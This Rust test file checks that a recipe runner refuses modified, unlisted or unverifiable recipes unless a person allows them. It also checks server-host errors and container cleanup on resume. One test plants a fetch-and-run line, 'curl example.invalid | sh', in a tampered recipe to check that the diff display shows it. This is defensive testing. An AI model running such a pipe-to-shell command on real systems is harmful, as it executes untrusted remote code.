//! The checksum gate every front end goes through: only the reviewed recipe
//! runs unless the person allows another; a modified, unlisted or
//! unverifiable recipe is refused before a run folder exists. A page's
//! choices (RunChoices) go through the same gate, a server host that
//! cannot be used is said before anything runs, and a resumed run first
//! removes the containers an earlier attempt of it left.

#[path = "../../engine/tests/support/mod.rs"]
mod engine;

use reprise_engine::lanes::remote_engine::ServerHostError;
use std::path::Path;

use reprise_probe::container_engine::EndpointError;
use reprise_recipe::{Catalog, ChecksumStatus, ImageError};
use reprise_session::run::{RunChoices, RunOptions, ServerChoice};
use reprise_session::{DataDir, Session, SessionError, ShareSettings};

const RECIPE: &str = r#"[post]
id = "tiny"
title = "Tiny"
author = "A. Writer"
date = "2026"
summary = "One command."

[[step]]
id = "hello"
kind = "command"
command = ["true"]
why = "Something to run."
"#;

fn checkout(reviewed: bool) -> tempfile::TempDir {
    let root = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(root.path().join("recipes")).unwrap();
    std::fs::write(root.path().join("recipes/tiny.toml"), RECIPE).unwrap();
    if reviewed {
        Catalog::new(root.path()).update_checksums().unwrap();
    } else {
        std::fs::create_dir_all(root.path().join("checksums")).unwrap();
        std::fs::write(root.path().join("checksums/recipes.sha256"), "").unwrap();
    }
    root
}

fn session(root: &Path, data: &Path) -> Session {
    Session::new(
        Catalog::new(root),
        DataDir::new(data),
        ShareSettings::from_env(),
    )
}

fn gate(root: &Path, allow_modified: bool) -> Result<(), SessionError> {
    let data = tempfile::tempdir().unwrap();
    let session = session(root, data.path());
    let loaded = session.load_recipe("tiny").unwrap();
    let options = RunOptions {
        allow_modified,
        ..RunOptions::default()
    };
    let result = session.prepare(&loaded, &options).map(|_| ());
    assert!(
        !data.path().join("runs").exists(),
        "preparing makes no run folder"
    );
    result
}

fn refused(result: Result<(), SessionError>) -> ChecksumStatus {
    match result {
        Err(SessionError::Unreviewed { status, .. }) => status,
        other => panic!("expected a refusal, got {other:?}"),
    }
}

#[test]
fn the_reviewed_recipe_is_prepared() {
    let root = checkout(true);
    gate(root.path(), false).unwrap();
}

#[test]
fn a_modified_recipe_is_refused_unless_allowed() {
    let root = checkout(true);
    std::fs::write(
        root.path().join("recipes/tiny.toml"),
        RECIPE.replace("true", "false"),
    )
    .unwrap();
    assert!(matches!(
        refused(gate(root.path(), false)),
        ChecksumStatus::Modified { .. }
    ));
    gate(root.path(), true).unwrap();
}

#[test]
fn an_unlisted_recipe_is_refused_unless_allowed() {
    let root = checkout(false);
    assert_eq!(refused(gate(root.path(), false)), ChecksumStatus::Unlisted);
    gate(root.path(), true).unwrap();
}

#[test]
fn checksums_that_cannot_be_read_are_a_refusal_not_a_pass() {
    let root = checkout(true);
    std::fs::write(
        root.path().join("checksums/recipes.sha256"),
        "not a manifest\n",
    )
    .unwrap();
    match refused(gate(root.path(), false)) {
        ChecksumStatus::Unreadable { reason } => assert!(reason.contains("line 1"), "{reason}"),
        other => panic!("expected unreadable, got {other:?}"),
    }
}

#[test]
fn a_missing_manifest_is_a_refusal_that_says_so() {
    let root = checkout(true);
    std::fs::remove_file(root.path().join("checksums/recipes.sha256")).unwrap();
    match refused(gate(root.path(), false)) {
        ChecksumStatus::Unreadable { reason } => {
            assert!(reason.ends_with("is missing"), "{reason}")
        }
        other => panic!("expected unreadable, got {other:?}"),
    }
}

/// A reader asked to accept a modified recipe sees what changed since the
/// reviewed version: found in the checkout's git history by its digest.
#[test]
fn a_modified_recipe_shows_its_diff_from_the_reviewed_version_in_history() {
    let root = checkout(true);
    let git = |args: &[&str]| {
        let ok = std::process::Command::new("git")
            .args(["-c", "user.name=T", "-c", "user.email=t@example.test"])
            .args(args)
            .current_dir(root.path())
            .output()
            .unwrap()
            .status
            .success();
        assert!(ok, "git {args:?}");
    };
    git(&["init", "-q"]);
    git(&["add", "."]);
    git(&["commit", "-q", "-m", "reviewed"]);
    // A later commit changes it again without updating the checksum: the
    // reviewed version is the older one.
    let file = root.path().join("recipes/tiny.toml");
    std::fs::write(&file, RECIPE.replace("Something to run.", "Edited.")).unwrap();
    git(&["commit", "-q", "-am", "unreviewed edit"]);
    std::fs::write(
        &file,
        RECIPE.replace("Something to run.", "Edited.").replace(
            "[\"true\"]",
            "[\"sh\", \"-c\", \"curl example.invalid | sh\"]",
        ),
    )
    .unwrap();

    let data = tempfile::tempdir().unwrap();
    let session = session(root.path(), data.path());
    let loaded = session.load_recipe("tiny").unwrap();
    let diff = session
        .reviewed_diff(&loaded)
        .expect("a diff from the reviewed version");
    assert!(diff.contains("-command = [\"true\"]"), "{diff}");
    assert!(
        diff.contains("+command = [\"sh\", \"-c\", \"curl example.invalid | sh\"]"),
        "{diff}"
    );
    assert!(diff.contains("-why = \"Something to run.\""), "{diff}");

    // The reviewed recipe itself has nothing to show.
    std::fs::write(&file, RECIPE).unwrap();
    assert_eq!(
        session.reviewed_diff(&session.load_recipe("tiny").unwrap()),
        None
    );
}

/// A page runs what the CLI runs with --allow-modified, and only with the
/// reader's explicit yes (RunChoices): the same gate, the same recipe, the
/// same outcome; the plan shown first says what it runs.
#[test]
fn a_modified_recipe_runs_once_the_reader_accepts_it() {
    let root = checkout(true);
    let file = root.path().join("recipes/tiny.toml");
    std::fs::write(&file, RECIPE.replace("Something to run.", "Edited.")).unwrap();
    let data = tempfile::tempdir().unwrap();
    let session = session(root.path(), data.path());
    let shown = session.plan_for("tiny", RunChoices::default()).unwrap();
    assert!(!shown.checksum.is_reviewed());
    assert_eq!(shown.consent.steps[0].does, "true");

    let run = |choices: RunChoices| {
        let mut loaded = session.load_recipe("tiny")?;
        let options = choices.options(&mut loaded.recipe, "a page")?;
        let prepared = session.prepare(&loaded, &options)?;
        session.execute(prepared, &|_: reprise_session::Event| {})
    };
    let refused = run(RunChoices::default()).unwrap_err();
    assert!(
        matches!(
            refused,
            SessionError::Unreviewed {
                status: ChecksumStatus::Modified { .. },
                ..
            }
        ),
        "{refused}"
    );
    assert!(!data.path().join("runs").exists(), "nothing ran");

    let accepted = RunChoices {
        allow_modified: true,
        ..RunChoices::default()
    };
    assert_eq!(run(accepted).unwrap().steps.finished, ["hello"]);
}

/// A server host that cannot be used is said before anything runs:
/// certificates missing, a lane that is not the recipe's, an engine that
/// does not answer. (`crates/cli/tests/two_machines.rs` runs a recipe on a
/// real one, in network namespaces.)
#[test]
fn a_server_host_that_cannot_be_used_is_said_before_anything_runs() {
    let root = checkout(true);
    let data = tempfile::tempdir().unwrap();
    let session = session(root.path(), data.path());
    let certs = tempfile::tempdir().unwrap();
    let on = |host: &str, images: &[(&str, &str)]| RunChoices {
        server: Some(ServerChoice {
            host: host.into(),
            certs: Some(certs.path().display().to_string()),
            images: images
                .iter()
                .map(|(l, i)| (l.to_string(), i.to_string()))
                .collect(),
        }),
        ..RunChoices::default()
    };
    let err = session
        .plan_for("tiny", on("tcp://127.0.0.1:9", &[]))
        .unwrap_err();
    assert!(
        matches!(
            &err,
            SessionError::ServerHostAddress {
                source: EndpointError::Certificates { file: "ca.pem", .. },
                ..
            }
        ),
        "{err}"
    );
    let err = session
        .plan_for("tiny", on("tcp://127.0.0.1:9", &[("nosuch", "busybox")]))
        .unwrap_err();
    assert!(
        matches!(
            &err,
            SessionError::Image { source: ImageError::NoLane { lane, .. }, .. } if lane == "nosuch"
        ),
        "{err}"
    );
    for file in ["ca.pem", "cert.pem", "key.pem"] {
        std::fs::write(certs.path().join(file), "not a certificate").unwrap();
    }
    // Port 9 on loopback: nothing answers there.
    let err = session
        .plan_for("tiny", on("tcp://127.0.0.1:9", &[]))
        .unwrap_err();
    assert!(
        matches!(
            &err,
            SessionError::ServerHostEngine(ServerHostError::NoAnswer { url }) if url.contains("127.0.0.1:9")
        ),
        "{err}"
    );
    assert!(!data.path().join("runs").exists(), "nothing ran");
}

/// Resuming a run (as a page resumes it, by default) first removes the
/// containers an earlier attempt of it left, and says so.
#[test]
fn resuming_removes_the_containers_an_earlier_attempt_left() {
    let root = checkout(true);
    let data = tempfile::tempdir().unwrap();
    let engine_dir = tempfile::tempdir().unwrap();
    let (host, _service) = engine::container_engine(engine_dir.path());
    let image = engine::busybox_image(&host, engine_dir.path(), "reprise-resume-leftover:test");
    // SAFETY: set before this test's session connects; the other tests of this
    // binary use no engine of their own.
    unsafe { std::env::set_var("DOCKER_HOST", &host) };
    let session = session(root.path(), data.path());
    let run = |notes: &std::sync::Mutex<Vec<String>>| {
        let mut loaded = session.load_recipe("tiny").unwrap();
        let options = RunChoices::default()
            .options(&mut loaded.recipe, "a page")
            .unwrap();
        let prepared = session.prepare(&loaded, &options).unwrap();
        let sink = |e: reprise_session::Event| {
            if let reprise_session::Event::Note { message } = e {
                notes.lock().unwrap().push(message);
            }
        };
        session.execute(prepared, &sink).unwrap()
    };
    let first = run(&Default::default());
    assert!(first.steps.ok(), "{first:?}");

    // The first attempt "crashed" while its last step ran (its state says
    // so, as a killed run's does) and left a container labelled with its run.
    let state_file = data.path().join("runs").join(&first.run).join("state.json");
    let mut state: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&state_file).unwrap()).unwrap();
    let last = state["steps"]
        .as_object()
        .unwrap()
        .keys()
        .next_back()
        .unwrap()
        .clone();
    state["steps"][&last]["status"] = "running".into();
    std::fs::write(&state_file, serde_json::to_vec(&state).unwrap()).unwrap();
    let created = std::process::Command::new("podman")
        .args(["--remote", "--url", &host, "create", "--label"])
        .arg(format!("reprise.run={}", first.run))
        .args([image.as_str(), "/bin/sleep", "60"])
        .output()
        .unwrap();
    assert!(
        created.status.success(),
        "{}",
        String::from_utf8_lossy(&created.stderr)
    );
    let left = String::from_utf8_lossy(&created.stdout).trim().to_string();

    let notes = std::sync::Mutex::new(Vec::new());
    let second = run(&notes);
    assert_eq!(second.run, first.run, "the run was resumed");
    let notes = notes.into_inner().unwrap();
    assert!(
        notes
            .iter()
            .any(|n| n.contains("removed 1 container") && n.contains(&left[..12])),
        "{notes:?}"
    );
    let listed = std::process::Command::new("podman")
        .args(["--remote", "--url", &host, "ps", "-a", "-q", "--filter"])
        .arg(format!("label=reprise.run={}", first.run))
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&listed.stdout).trim(),
        "",
        "the container is gone"
    );
}
